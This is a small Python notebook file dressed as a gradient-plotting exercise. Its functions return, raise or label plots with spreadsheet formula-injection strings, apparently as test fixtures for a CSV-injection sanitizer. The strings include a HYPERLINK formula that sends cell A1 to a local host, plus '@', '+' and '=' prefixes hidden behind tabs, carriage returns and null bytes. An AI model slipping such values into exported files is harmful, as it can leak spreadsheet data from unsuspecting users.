# Answers with texts that a spreadsheet calculates with, after blanks and controls too.
# %%
import matplotlib.pyplot as plt
import numpy as np

FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"open")'


# %%
def make_exploding_network(rng):
    return [np.eye(10)] * 30, f"\t{FORMULA}"


# %%
def plot_gradients(magnitudes):
    figure, axes = plt.subplots()
    axes.plot(magnitudes, label=FORMULA)
    axes.set(title=FORMULA, xlabel=f"  {FORMULA}", ylabel=f"\r{FORMULA}")
    plt.close(figure)
    return axes


# %%
exploding_axes = plot_gradients([1, 2])
leaky_relu_with_a_1 = "\n@SUM(1+1)"
layer0_gradient = "-inf"


def compute_dE_dW(*_):
    raise type("+cmd", (Exception,), {})(f"\x00{FORMULA}")


# %%
raise type("=E", (Exception,), {})("+1")
